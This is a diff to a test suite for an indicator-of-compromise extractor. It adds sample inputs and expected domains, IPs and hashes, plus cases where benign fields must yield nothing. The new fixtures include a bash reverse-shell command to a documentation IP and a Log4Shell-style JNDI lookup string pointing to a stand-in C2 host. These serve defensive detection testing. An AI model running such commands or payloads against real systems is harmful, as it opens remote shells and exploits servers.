@@ -54,6 +54,13 @@ describe('extractIocs', () => {
     ],
     ['issued to CN=update.evil.org, O=Acme', { domains: ['update.evil.org'] }],
     ['CN=*.evil.org', { domains: ['evil.org'] }],
+    ['bash -i >& /dev/tcp/203.0.113.9/8080 and udp/1.2.3.4', { ips: ['203.0.113.9', '1.2.3.4'] }],
+    ['${jndi:ldap://c2.evil.org:1389/a}', { domains: ['c2.evil.org'] }],
+    ['stratum+tcp://pool.evil.org:4444', { domains: ['pool.evil.org'] }],
+    [
+      'CEF:0|Acme|IDS|1|7|Beacon|5|dhost=c2.evil.org request=evil.org/gate.php',
+      { domains: ['c2.evil.org', 'evil.org'] },
+    ],
     [`sha1:${MD5}01234567`, { hashes: [`${MD5}01234567`] }],
     [SHA256, { hashes: [SHA256.toLowerCase()] }],
     [SHA256.repeat(2), { hashes: [SHA256.toLowerCase().repeat(2)] }],
@@ -167,6 +174,10 @@ describe('extractIocs', () => {
     ['Vendor.Url', 'https://alas.aws.amazon.com/x'],
     ['SourceUrl', 'https://threats.acme.com/x'],
     ['assigner', 'cve@mitre.org'],
+    ['contacts.email', 'security@acme.com'],
+    ['UserName', 'j.kim'],
+    ['eventSource', 'signin.amazonaws.com'],
+    ['IncidentHash', MD5],
     ['event', 'session.network'],
   ])('takes nothing from the field %s, flat or nested', (path, value) => {
     expect(found(value, path)).toEqual({});
@@ -189,6 +200,16 @@ describe('extractIocs', () => {
     ['event', 'sign-in of mallory from c2.evil.ru'],
   ])('finds the domain in the field %s', (path, value) => {
     expect(found(value, path)).toEqual({ domains: [value.split(' ').at(-1)?.toLowerCase()] });
+  });
+
+  it.each([
+    { dataType: 'fqdn', data: 'www.invoice.zip' },
+    { type: 'domain', value: 'www.invoice.zip' },
+    { ioc_type: 'Hostname', ioc_value: 'www.invoice.zip' },
+    { name: 'query', value: 'www.invoice.zip' },
+  ])('takes a value by what stands beside it: %j', (observable) => {
+    expect(found([observable])).toEqual({ domains: ['www.invoice.zip'] });
+    expect(found([{ name: 'Message-ID', value: '<a@evil.org>' }])).toEqual({});
   });
 
   it('reads JSON inside of a text by its fields', () => {
